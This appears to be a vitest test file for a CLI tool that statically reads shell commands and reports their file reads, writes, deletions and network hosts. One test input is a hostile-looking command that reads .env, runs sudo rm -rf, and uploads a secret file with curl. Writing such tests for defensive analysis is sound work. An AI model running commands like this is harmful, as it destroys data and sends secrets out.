import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { hasScript, onTerminal } from './on-terminal.js'
import { createPlace } from './run-cli.js'

interface Line {
  command?: string
  reads?: string[]
  error?: string
}

const linesOf = (stdout: string): Line[] =>
  stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Line)

describe('toolcrib shell read', () => {
  it('prints a reading within 80 columns, without config and store', async () => {
    const place = createPlace('')
    const { code, stdout, stderr } = await place.run([
      'shell',
      'read',
      'cat .env | sort > out; sudo rm -rf /var/lib/a-folder-with-a-rather-long-name/and-another-one && curl https://example.com/upload -d @secret',
    ])
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80)
    expect(stdout).toContain('It may do more than read.')
    expect(stdout).toMatch(/^Reads +\.env\n +secret$/m)
    expect(stdout).toMatch(/^Writes +out$/m)
    expect(stdout).toMatch(/^Hosts +example\.com$/m)
    expect(stdout).toMatch(/^Deletes +\/var\/lib\/a-folder/m)
    expect(stdout).toMatch(/^ +rm -rf \/var\/lib/m)
    expect(existsSync(join(place.folder, 'home'))).toBe(false)
  })

  it.each([
    ['cat a', /destroys nothing that is known\n +stays on this machine\n +all that/],
    ['./run.sh', /not known to destroy anything\n +may talk to other machines\n +not all/],
  ])('claims only what is known: %s', async (command, facts) => {
    expect((await createPlace('').run(['shell', 'read', command])).stdout).toMatch(facts)
  })

  it('escapes characters that control the terminal', async () => {
    const { stdout } = await createPlace('').run(['shell', 'read', 'echo \u001B[31mred\u202E'])
    expect([...stdout].filter((char) => /\p{Control}|\u202E/u.test(char) && char !== '\n')).toEqual([])
  })

  it('--json prints one object with paths relative to the folder', async () => {
    const place = createPlace('')
    const given = ['shell', 'read', '--json', 'cp ./a ../b && cat ~/c . > "$D/x" && ./run.sh']
    const { code, stdout } = await place.run(given)
    expect(code).toBe(0)
    expect(JSON.parse(stdout)).toEqual({
      command: 'cp ./a ../b && cat ~/c . > "$D/x" && ./run.sh',
      is_read_only: false,
      is_destructive: true,
      is_open_world: false,
      is_concurrency_safe: false,
      reads: ['a', join(homedir(), 'c'), '.'],
      writes: [join(place.folder, '../b'), '/**/x'],
      deletes: [],
      executes: ['run.sh'],
      hosts: [],
      // Also under its name: a rule about that name matches it.
      commands: ['cp ./a ../b', 'cat ~/c .', './run.sh', 'run.sh'],
      is_complete: false,
      reasons: expect.arrayContaining([expect.stringMatching(/\.$/)]) as string[],
    })
  })

  it('--cwd sets the folder of the command', async () => {
    const { stdout } = await createPlace('').run([
      'shell',
      'read',
      '--json',
      '--cwd',
      '/x/y',
      'cat a ../b /x/y',
    ])
    expect(JSON.parse(stdout)).toMatchObject({ reads: ['a', '/x/b', '.'] })
  })

  it('accepts an unquoted command', async () => {
    const { stdout } = await createPlace('').run(['shell', 'read', '--json', '--', 'rm', '-rf', 'a'])
    expect(JSON.parse(stdout)).toMatchObject({ command: 'rm -rf a', deletes: ['a'] })
  })
})

describe('toolcrib shell read --jsonl', () => {
  it.skipIf(!hasScript)('prints at a terminal what it waits for', async () => {
    const { code } = await onTerminal(createPlace(''), 'shell read --jsonl', {
      typed: [[/Type one JSON object per line; Ctrl-D ends\./, '\u0004']],
    })
    expect(code).toBe(0)
  })

  it('answers every line in order, and continues after an invalid one', async () => {
    const input = [
      '{"command": "cat .env"}',
      'cat .env',
      '{"cmd": "ls"}',
      '',
      '{"command": 5}',
      '{"command": "cat a", "cwd": "sub"}',
      '{"command": "cat a", "cwd": 7}',
      '{"command": "rm \\"unclosed"}',
      'null',
      '{"command": "cat last"}',
    ].join('\n')
    const { code, stdout, stderr } = await createPlace('').run(['shell', 'read', '--jsonl', '--cwd', '/x'], {
      input,
    })
    expect({ code, stderr }).toEqual({ code: 1, stderr: '' })
    const lines = linesOf(stdout)
    expect(lines.map(({ command, error }) => command ?? /^Line (\d+) /.exec(error!)?.[1])).toEqual([
      'cat .env',
      '2',
      '3',
      '4',
      '5',
      'cat a',
      '7',
      'rm "unclosed',
      '9',
      'cat last',
    ])
    expect(lines[1]).toEqual({
      error: 'Line 2 is not JSON; it must be an object like {"command": "ls -la"}.',
    })
    expect(lines[5]!.reads).toEqual(['a'])
  })

  it('exits with 0 if every line was valid', async () => {
    const { code, stdout } = await createPlace('').run(['shell', 'read', '--jsonl'], {
      input: '{"command": "ls"}\r\n{"command": "pwd"}\n',
    })
    expect(code).toBe(0)
    expect(linesOf(stdout).map(({ command }) => command)).toEqual(['ls', 'pwd'])
  })

  it('answers each line before the next one arrives', async () => {
    const child = createPlace('').start(['shell', 'read', '--jsonl'])
    onTestFinished(() => void child.kill())
    for (const command of ['cat a', 'cat b', 'cat c']) {
      child.stdin!.write(`${JSON.stringify({ command })}\n`)
      const [chunk] = (await once(child.stdout!, 'data')) as [Buffer]
      expect(linesOf(String(chunk))).toEqual([expect.objectContaining({ command })])
    }
    child.stdin!.end()
    const [code] = (await once(child, 'close')) as [number]
    expect(code).toBe(0)
  })
})

it('mistakes print one sentence, with exit code 2', async () => {
  const place = createPlace('')
  const wrong: [string[], RegExp][] = [
    [['shell', 'reed', 'ls'], /did you mean "read"\?/],
    [['shell', 'read'], /Give it in quotes/],
    [['shell', 'read', '  '], /Give it in quotes/],
    [['shell', 'read', 'ls', '-la'], /Unknown option '-la'; put the command in quotes/],
    [['shell', 'read', '--jsonl', 'ls'], /takes its commands from stdin/],
  ]
  for (const [args, sentence] of wrong) {
    const { code, stdout, stderr } = await place.run(args)
    expect({ args, code, stdout }).toEqual({ args, code: 2, stdout: '' })
    expect(stderr).toMatch(sentence)
    expect(stderr.trim().split('\n')).toHaveLength(1)
  }
})

it('a group without a command lists its commands', async () => {
  const { code, stdout } = await createPlace('').run(['shell'])
  expect(code).toBe(0)
  expect(stdout).toContain('read [command...]')
})
